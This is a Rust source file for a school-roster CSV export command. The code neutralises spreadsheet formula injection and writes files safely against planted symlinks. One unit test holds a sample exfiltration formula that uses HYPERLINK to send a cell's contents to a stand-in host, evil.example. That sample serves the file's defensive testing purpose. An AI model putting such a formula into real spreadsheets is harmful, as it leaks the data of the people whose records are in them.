//! `bromsync export`: one roster table of one school as CSV (RFC 4180, UTF-8, a header row),
//! the product's "Export Classes" button. Rows in ID order; ID lists ascending, one space
//! between IDs; a value that is absent is an empty field; dates `yyyy-mm-dd`.
//!
//! By default the CSV is for spreadsheets, where a cell that begins with `=`, `+`, `-`, `@`,
//! tab or carriage return is run as a formula: such a text cell gets a leading `'` (OWASP's
//! CSV-injection advice), every cell is quoted, and a UTF-8 byte-order mark lets Excel read
//! non-ASCII names. `--raw` writes values exactly as stored, for programs. docs/security.md
//! says what each guarantees.
//!
//! With `--output FILE` rows go to a new file of the owner's only (0600) beside FILE, created
//! exclusively under a random name without following links, and renamed over FILE at the end:
//! a failed export never leaves a short file that looks whole, and a link planted beside FILE
//! is never written through.

use std::ffi::OsString;
use std::fs::{File, OpenOptions};
use std::io::Write;
use std::os::unix::fs::OpenOptionsExt;
use std::path::{Path, PathBuf};

use futures::StreamExt;

use super::{OpsError, Verdict, configured_school, connect, store_failed};
use crate::config::Settings;
use crate::snapshot::SchoolId;
use crate::store::{RowStream, Store};

#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum ExportTable {
    Classes,
    Students,
    Teachers,
    Parents,
    Groups,
}

#[derive(Debug, clap::Args)]
pub struct ExportArgs {
    /// What to export.
    #[arg(value_enum)]
    pub table: ExportTable,
    /// The school (must be in the configuration).
    #[arg(long)]
    pub school: SchoolId,
    /// Write to this file (replaced only once the export is complete); default stdout.
    #[arg(long, short, value_name = "FILE")]
    pub output: Option<PathBuf>,
    /// Values exactly as stored, for programs: no byte-order mark, no `'` before a cell a
    /// spreadsheet would run as a formula, quotes only where CSV needs them.
    #[arg(long)]
    pub raw: bool,
}

/// How the cells are written.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Cells {
    /// For spreadsheets: a byte-order mark, every cell quoted, formula-like text neutralised.
    Spreadsheet,
    /// Exactly as stored (RFC 4180 quoting where needed, no byte-order mark).
    Raw,
}

impl ExportArgs {
    pub fn cells(&self) -> Cells {
        if self.raw {
            Cells::Raw
        } else {
            Cells::Spreadsheet
        }
    }
}

/// What a spreadsheet reads as the start of a formula (OWASP, "CSV Injection").
const FORMULA_LEADS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `value` with a leading `'` if a spreadsheet would run it as a formula. Applied to the value
/// as stored, after cleaning: cleaning strips a leading tab, so `"\t=1+1"` arrives as `=1+1`.
pub fn formula_safe(value: String) -> String {
    if value.starts_with(FORMULA_LEADS) {
        format!("'{value}")
    } else {
        value
    }
}

/// One cell of a row: text that came from Bromcom (or an operator) and may be neutralised, or a
/// value we format ourselves (IDs, dates, ID lists, the stored `kind` codes) that never is.
enum Cell {
    Text(String),
    Ours(String),
}

impl Cell {
    fn text(value: Option<String>) -> Cell {
        Cell::Text(value.unwrap_or_default())
    }

    fn written(self, cells: Cells) -> String {
        match (self, cells) {
            (Cell::Text(text), Cells::Spreadsheet) => formula_safe(text),
            (Cell::Text(value) | Cell::Ours(value), _) => value,
        }
    }
}

/// The header row of each export, exactly.
pub fn header(table: ExportTable) -> &'static [&'static str] {
    match table {
        ExportTable::Classes => &[
            "class_id",
            "name",
            "subject",
            "kind",
            "main_teacher_staff_id",
            "staff_ids",
            "student_ids",
        ],
        ExportTable::Students => &[
            "student_id",
            "first_name",
            "last_name",
            "date_of_birth",
            "tutor_group",
            "year_group",
        ],
        ExportTable::Teachers => &[
            "staff_id",
            "title",
            "first_name",
            "last_name",
            "email",
            "room",
        ],
        ExportTable::Parents => &[
            "person_id",
            "title",
            "first_name",
            "last_name",
            "email",
            "phone",
            "student_ids",
        ],
        ExportTable::Groups => &["group_id", "name", "kind", "student_ids"],
    }
}

pub async fn run(settings: &Settings, args: &ExportArgs) -> Result<Verdict, OpsError> {
    configured_school(settings, args.school)?;
    let store = connect(settings).await?;
    let result = match &args.output {
        None => {
            let stdout = std::io::stdout().lock();
            write_csv(&store, args.school, args.table, args.cells(), stdout).await
        }
        Some(path) => write_file(&store, args, path).await,
    };
    store.close().await;
    let rows = result?;
    tracing::info!(school_id = args.school, rows, table = ?args.table, "exported");
    Ok(Verdict::AllWell)
}

async fn write_file(store: &Store, args: &ExportArgs, path: &Path) -> Result<u64, OpsError> {
    let io_error =
        |what: &str, e: std::io::Error| OpsError::Failed(format!("{what} {}: {e}", path.display()));
    // Dropped on any error below, which removes it.
    let mut partial =
        create_beside(path, RANDOM_LEN).map_err(|e| io_error("cannot create a file beside", e))?;
    let rows = write_csv(
        store,
        args.school,
        args.table,
        args.cells(),
        partial.as_file_mut(),
    )
    .await?;
    partial
        .as_file()
        .sync_all()
        .map_err(|e| io_error("cannot write", e))?;
    partial
        .persist(path)
        .map_err(|e| io_error("cannot write", e.error))?;
    Ok(rows)
}

/// Random characters in the temporary file's name.
const RANDOM_LEN: usize = 12;

/// A new file `.NAME.<random>.partial` in `path`'s directory, the owner's only (0600), created
/// exclusively and without following a link: whatever another user planted at that name, or
/// at any name they could guess, fails the creation (which then tries another name) instead of
/// being opened. Same directory, so the final rename is atomic.
pub fn create_beside(path: &Path, random_len: usize) -> std::io::Result<tempfile::NamedTempFile> {
    let name = path
        .file_name()
        .ok_or_else(|| std::io::Error::new(std::io::ErrorKind::InvalidInput, "not a file name"))?;
    let dir = match path.parent() {
        Some(dir) if !dir.as_os_str().is_empty() => dir,
        _ => Path::new("."),
    };
    let mut prefix = OsString::from(".");
    prefix.push(name);
    prefix.push(".");
    tempfile::Builder::new()
        .prefix(&prefix)
        .suffix(".partial")
        .rand_bytes(random_len)
        .make_in(dir, |path| -> std::io::Result<File> {
            OpenOptions::new()
                .write(true)
                .create_new(true)
                .custom_flags(libc::O_NOFOLLOW)
                .mode(0o600)
                .open(path)
        })
}

/// Writes the header and every row; returns the number of rows.
pub async fn write_csv<W: Write>(
    store: &Store,
    school: SchoolId,
    table: ExportTable,
    cells: Cells,
    mut out: W,
) -> Result<u64, OpsError> {
    let quote = match cells {
        Cells::Spreadsheet => {
            // Excel reads a CSV without one as the machine's legacy code page (Zoë -> ZoÃ«).
            out.write_all("\u{feff}".as_bytes())
                .map_err(|e| OpsError::Failed(format!("writing the export: {e}")))?;
            // OWASP: a neutralised cell must also be quoted; quoting all keeps it uniform.
            csv::QuoteStyle::Always
        }
        Cells::Raw => csv::QuoteStyle::Necessary,
    };
    let mut csv = csv::WriterBuilder::new()
        .quote_style(quote)
        .from_writer(out);
    let csv_error = |e: csv::Error| OpsError::Failed(format!("writing the export: {e}"));
    csv.write_record(header(table)).map_err(csv_error)?;
    let rows = match table {
        ExportTable::Classes => {
            let rows = store.export_classes(school);
            write_rows(&mut csv, cells, rows, |c| {
                vec![
                    Cell::Ours(c.class_id.to_string()),
                    Cell::Text(c.name),
                    Cell::text(c.subject),
                    Cell::Ours(c.kind),
                    Cell::Ours(optional(c.main_teacher_staff_id)),
                    Cell::Ours(ids(&c.staff_ids)),
                    Cell::Ours(ids(&c.student_ids)),
                ]
            })
            .await?
        }
        ExportTable::Students => {
            let rows = store.export_students(school);
            write_rows(&mut csv, cells, rows, |s| {
                vec![
                    Cell::Ours(s.student_id.to_string()),
                    Cell::Text(s.first_name),
                    Cell::Text(s.last_name),
                    Cell::Ours(
                        s.date_of_birth
                            .map(|d| d.format("%Y-%m-%d").to_string())
                            .unwrap_or_default(),
                    ),
                    Cell::text(s.tutor_group),
                    Cell::text(s.year_group),
                ]
            })
            .await?
        }
        ExportTable::Teachers => {
            let rows = store.export_teachers(school);
            write_rows(&mut csv, cells, rows, |row| {
                let t = row.teacher;
                vec![
                    Cell::Ours(t.staff_id.to_string()),
                    Cell::Text(t.title),
                    Cell::Text(t.first_name),
                    Cell::Text(t.last_name),
                    Cell::text(t.email),
                    Cell::text(row.room),
                ]
            })
            .await?
        }
        ExportTable::Parents => {
            let rows = store.export_parents(school);
            write_rows(&mut csv, cells, rows, |row| {
                let p = row.parent;
                vec![
                    Cell::Ours(p.person_id.to_string()),
                    Cell::Text(p.title),
                    Cell::Text(p.first_name),
                    Cell::Text(p.last_name),
                    Cell::text(p.email),
                    Cell::text(p.phone),
                    Cell::Ours(ids(&row.student_ids)),
                ]
            })
            .await?
        }
        ExportTable::Groups => {
            let rows = store.export_groups(school);
            write_rows(&mut csv, cells, rows, |g| {
                vec![
                    Cell::Ours(g.group_id.to_string()),
                    Cell::Text(g.name),
                    Cell::Ours(g.kind),
                    Cell::Ours(ids(&g.student_ids)),
                ]
            })
            .await?
        }
    };
    csv.flush()
        .map_err(|e| OpsError::Failed(format!("writing the export: {e}")))?;
    Ok(rows)
}

async fn write_rows<W: Write, T>(
    csv: &mut csv::Writer<W>,
    cells: Cells,
    mut rows: RowStream<'_, T>,
    fields: impl Fn(T) -> Vec<Cell>,
) -> Result<u64, OpsError> {
    let mut count = 0;
    while let Some(row) = rows.next().await {
        let row = row.map_err(store_failed)?;
        csv.write_record(fields(row).into_iter().map(|cell| cell.written(cells)))
            .map_err(|e| OpsError::Failed(format!("writing the export: {e}")))?;
        count += 1;
    }
    Ok(count)
}

fn optional(id: Option<i64>) -> String {
    id.map(|id| id.to_string()).unwrap_or_default()
}

/// IDs (already ascending from the database) separated by one space.
fn ids(ids: &[i64]) -> String {
    ids.iter().map(i64::to_string).collect::<Vec<_>>().join(" ")
}

#[cfg(test)]
mod tests {
    use std::os::unix::fs::{PermissionsExt, symlink};

    use super::*;

    #[test]
    fn each_formula_lead_gets_a_quote_and_other_text_is_untouched() {
        for lead in FORMULA_LEADS {
            let value = format!("{lead}HYPERLINK(\"http://evil.example/?\"&A1)");
            assert_eq!(formula_safe(value.clone()), format!("'{value}"));
        }
        for value in [
            "",
            "Zoë",
            "O'Brien-Smith",
            "'=quoted already",
            "7QM",
            "44 20",
        ] {
            assert_eq!(formula_safe(value.to_owned()), value);
        }
    }

    #[test]
    fn a_link_planted_at_the_temporary_name_is_never_opened() {
        let dir = tempfile::tempdir().unwrap();
        let target = dir.path().join("out.csv");
        // Without random characters the name is the one an attacker would guess.
        let guessed = dir.path().join(".out.csv..partial");
        let victim = dir.path().join("victim");
        std::fs::write(&victim, "the victim's data").unwrap();
        symlink(&victim, &guessed).unwrap();
        let refused = create_beside(&target, 0).unwrap_err();
        assert_eq!(refused.kind(), std::io::ErrorKind::AlreadyExists);
        assert_eq!(
            std::fs::read_to_string(&victim).unwrap(),
            "the victim's data"
        );

        // A dangling link: creating through it would create its target.
        std::fs::remove_file(&guessed).unwrap();
        let absent = dir.path().join("absent");
        symlink(&absent, &guessed).unwrap();
        assert!(create_beside(&target, 0).is_err());
        assert!(!absent.exists());

        std::fs::remove_file(&guessed).unwrap();
        let created = create_beside(&target, 0).unwrap();
        assert_eq!(created.path(), guessed);
        let mode = created.as_file().metadata().unwrap().permissions().mode();
        assert_eq!(mode & 0o777, 0o600);
    }

    #[test]
    fn the_temporary_name_is_random_and_beside_the_target() {
        let dir = tempfile::tempdir().unwrap();
        let target = dir.path().join("out.csv");
        let one = create_beside(&target, RANDOM_LEN).unwrap();
        let two = create_beside(&target, RANDOM_LEN).unwrap();
        assert_ne!(one.path(), two.path());
        for file in [&one, &two] {
            assert_eq!(file.path().parent(), Some(dir.path()));
            let name = file.path().file_name().unwrap().to_str().unwrap();
            assert!(name.starts_with(".out.csv.") && name.ends_with(".partial"));
            assert_eq!(
                name.len(),
                ".out.csv.".len() + RANDOM_LEN + ".partial".len()
            );
        }
        let nameless = create_beside(Path::new("/"), RANDOM_LEN).unwrap_err();
        assert_eq!(nameless.kind(), std::io::ErrorKind::InvalidInput);
    }
}
